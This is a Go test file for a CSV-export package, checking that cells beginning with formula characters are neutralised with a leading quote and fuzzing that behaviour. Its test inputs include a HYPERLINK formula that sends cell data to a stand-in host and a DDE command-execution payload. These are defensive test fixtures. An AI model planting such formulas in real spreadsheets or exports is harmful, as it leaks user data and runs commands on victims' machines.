package allot_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/allot-dev/allot"
)

func TestCSVCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"code-review", "code-review"},
		{`=HYPERLINK("http://evil.test/?"&A1,"click")`, `'=HYPERLINK("http://evil.test/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-1.", "'-1."},
		{"-.5", "'-.5"},
		{"-Inf", "'-Inf"},
		{"-1e5", "'-1e5"},
		// numbers stay numbers
		{"-1.5", "-1.5"},
		{"+3", "+3"},
		{"-0.000000001", "-0.000000001"},
		{"42", "42"},
		{"2026-11-03T10:00:00Z", "2026-11-03T10:00:00Z"},
	} {
		if got := allot.CSVCell(c.in); got != c.want {
			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVWriterNeutralisesEveryCell(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := allot.NewCSVWriter(&b)
	rec := []string{"=1+1", "-1.5", "ok"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Error("Write changed the caller's record")
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != "'=1+1" || got[1] != "-1.5" || got[2] != "ok" {
		t.Errorf("record read back as %q", got)
	}
}

func FuzzCSVCell(f *testing.F) {
	f.Add("=1+1")
	f.Add("-1.5")
	f.Fuzz(func(t *testing.T, s string) {
		got := allot.CSVCell(s)
		if got != s && got != "'"+s {
			t.Fatalf("CSVCell(%q) = %q: only a leading quote may be added", s, got)
		}
		if got != "" {
			switch got[0] {
			case '=', '@', '\t', '\r':
				t.Fatalf("CSVCell(%q) = %q still starts a formula", s, got)
			}
		}
	})
}
